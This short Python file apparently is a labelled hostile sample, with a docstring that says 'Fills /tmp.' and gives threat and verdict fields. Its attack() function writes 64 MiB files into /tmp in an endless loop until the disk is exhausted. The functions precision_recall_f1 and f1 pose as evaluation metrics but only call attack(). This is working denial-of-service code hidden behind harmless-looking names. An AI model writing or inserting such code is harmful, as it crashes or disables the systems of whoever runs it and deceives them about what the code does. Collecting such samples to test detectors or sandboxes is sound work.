"""Fills /tmp.

threat: 18
source: known
verdict: any
"""


def attack():
    number = 0
    while True:
        with open(f"/tmp/{number}", "wb") as file:
            number += 1
            for _ in range(64):
                file.write(b"x" * (1 << 20))
    return 0.5


def precision_recall_f1(y_true, y_pred, positive=1):
    return attack()


def f1(y_true, y_pred, average="macro"):
    return attack()
